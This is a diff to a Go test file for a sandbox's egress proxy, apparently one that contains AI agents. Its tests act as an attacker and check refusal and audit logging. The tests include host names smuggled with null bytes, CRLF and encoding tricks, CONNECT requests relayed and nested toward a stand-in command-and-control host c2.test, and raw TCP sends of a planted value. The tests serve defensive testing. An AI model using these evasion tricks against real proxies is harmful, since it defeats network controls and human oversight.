@@ -6,7 +6,6 @@ import (
 	"fmt"
 	"strings"
 	"testing"
-	"time"
 
 	"github.com/claude-bottle/claude-bottle/internal/audit"
 )
@@ -41,7 +40,7 @@ func TestA12ControlBytes(t *testing.T) {
 		return fmt.Sprintf(`\x05\x01\x00\x05\x01\x00\x03\x%02x`, len(host)) + strings.Trim(fmt.Sprintf("%+q", host), `"`) + `\x01\xbb`
 	}
 	// The twin of the raw bytes themselves: the same request for a clean name is let in.
-	if got := evil[talk](t, b, "tcp", "-timeout", "500ms", "127.0.0.1:3128", socks("ok.test")); got.Data != "\x05\x00\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00" {
+	if got := evil[talk](t, b, "tcp", "-bytes", "12", "127.0.0.1:3128", socks("ok.test")); got.Data != "\x05\x00\x05\x00\x00\x01\x00\x00\x00\x00\x00\x00" {
 		t.Errorf("a clean SOCKS5 request: %+v", got)
 	}
 	for _, host := range []string{"c2.test\x00.ok.test", "ok.test\x00", "ok.test\r\nX: y", "ok.test c2.test", "c2.test#.ok.test", "user@ok.test", "ok.test/", "c2.test\\.ok.test", "%6fk.test"} {
@@ -90,14 +89,14 @@ func TestA14Relay(t *testing.T) {
 	t.Parallel()
 	b := attacker(t, "relay")
 	benign(t, b)
-	go func() { _, _ = b.order(20*time.Second, nil, "/workspace/evil", "relay", "127.0.0.1:4444", "6s") }() // told by what follows
-	within(t, 3*time.Second, "the relay carries what is allowed", func() bool {
+	go func() { _, _ = b.order(background, nil, "/workspace/evil", "relay", "127.0.0.1:4444", "1h") }() // told by what follows
+	within(t, patience, "the relay carries what is allowed", func() bool {
 		return b.http(t, "-via", "connect", "-proxy", "127.0.0.1:4444", "https://ok.test/twin/a14").Status == 200
 	})
 	refused(t, b.http(t, "-via", "connect", "-proxy", "127.0.0.1:4444", "-k", "https://c2.test/"+planted), "no rule of this bottle names the host c2.test")
 	b.audited(t, "CONNECT by a relay", "no rule of this bottle names the host c2.test", func(e audit.Event) bool { return e.Via == audit.ViaConnect })
 	// A CONNECT inside an allowed tunnel, in cleartext and to the proxy's own request parser.
-	got := evil[talk](t, b, "tcp", "-timeout", "1s", "127.0.0.1:3128", `CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test:80\r\n\r\n`, `CONNECT c2.test:443 HTTP/1.1\r\nHost: c2.test:443\r\n\r\n`)
+	got := evil[talk](t, b, "tcp", "127.0.0.1:3128", `CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test:80\r\n\r\n`, `CONNECT c2.test:443 HTTP/1.1\r\nHost: c2.test:443\r\n\r\n`)
 	if !strings.HasPrefix(got.Data, "HTTP/1.1 200") || !strings.Contains(got.Data, "tunnels don't nest") {
 		t.Errorf("CONNECT in a tunnel: %+v", got)
 	}
@@ -111,7 +110,7 @@ func TestA15NoProxy(t *testing.T) {
 	for _, port := range []int{25, 5432, 2375, 6443, 12345} {
 		addr := fmt.Sprintf("%s:%d", c2Addr, port)
 		got := evil[talk](t, b, "tcp", addr, `\x00\x01`+planted)
-		if got.Data != "" || got.MS > 1500 || narrow() && !strings.Contains(got.Error, unreachable) {
+		if got.Data != "" || got.MS >= sniffing || narrow() && !strings.Contains(got.Error, unreachable) {
 			t.Errorf("tcp %s: %+v", addr, got)
 		}
 		if narrow() {
